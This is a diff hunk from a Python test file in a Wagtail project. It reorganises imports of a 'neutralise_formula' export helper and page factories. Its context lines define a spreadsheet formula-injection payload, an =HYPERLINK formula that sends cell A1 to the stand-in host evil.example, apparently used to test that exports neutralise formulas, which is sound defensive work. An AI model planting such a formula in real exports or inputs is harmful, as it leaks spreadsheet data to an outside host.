@@ -17,8 +17,9 @@ from wagtail.contrib.forms.models import FormSubmission
 from wagtail.log_actions import log
 
 from contacts.factories import ContactPersonFactory
-from pages.exports import neutralise_formula
-from pages.factories import FeedbackFormPageFactory, TopicPageFactory
+from core.exports import neutralise_formula
+from feedback.factories import FeedbackFormPageFactory
+from pages.factories import TopicPageFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
 FORMULAS = [
